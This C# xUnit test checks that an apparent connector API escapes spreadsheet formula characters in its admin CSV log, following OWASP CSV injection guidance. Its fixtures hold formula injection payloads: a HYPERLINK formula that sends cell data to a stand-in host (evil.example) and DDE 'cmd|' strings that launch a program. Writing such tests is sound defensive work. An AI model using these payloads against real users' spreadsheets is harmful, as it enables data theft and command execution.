using Purview.Testing;
using Xunit;
using static Purview.Api.Tests.Connectors.ConnectorTestKit;

namespace Purview.Api.Tests.Connectors;

/// <summary>Values a spreadsheet would run as formulas reach the admin log as text (OWASP CSV injection guidance).</summary>
public sealed class AdminLogInjectionTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>
{
    [Fact]
    public async Task Item_ids_and_participants_starting_with_formula_characters_are_written_as_quoted_text()
    {
        var time = new ManualTimeProvider(Start);
        await using var host = NewHost(azurite, time);
        using var admin = host.Client("admin");
        await PutConnector(admin, "csv-inject", "Slack");
        await PutMappings(admin, "csv-inject", "u1");
        // Each unmapped participant is a failed detail row with the item id and the source user id.
        var (status, _) = await Import(admin, "csv-inject", Body("inject-1",
            Item("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "u1", ["+1+cmd|' /C calc'!A0"]),
            Item("-2+3", "u1", ["@SUM(1+1)*cmd|' /C calc'!A0"]),
            Item("@x", "u1", ["=1+1"]),
            Item("plain", "u1", ["-x,y"])));
        Assert.Equal(201, status);

        using var generate = await admin.PostAsync(new Uri("/connectors/admin-logs:generate?date=2026-11-21", UriKind.Relative), null);
        generate.EnsureSuccessStatusCode();
        var log = await admin.GetStringAsync(new Uri("/connectors/csv-inject/admin-logs/2026-11-21", UriKind.Relative));

        var failed = log[(log.IndexOf("Failure Reason\r\n", StringComparison.Ordinal) + "Failure Reason\r\n".Length)..];
        Assert.Equal(
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\"'+1+cmd|' /C calc'!A0\",,User mapping failure\r\n" +
            "\"'-2+3\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",,User mapping failure\r\n" +
            "\"'@x\",\"'=1+1\",,User mapping failure\r\n" +
            "plain,\"'-x,y\",,User mapping failure\r\n",
            failed);
    }
}
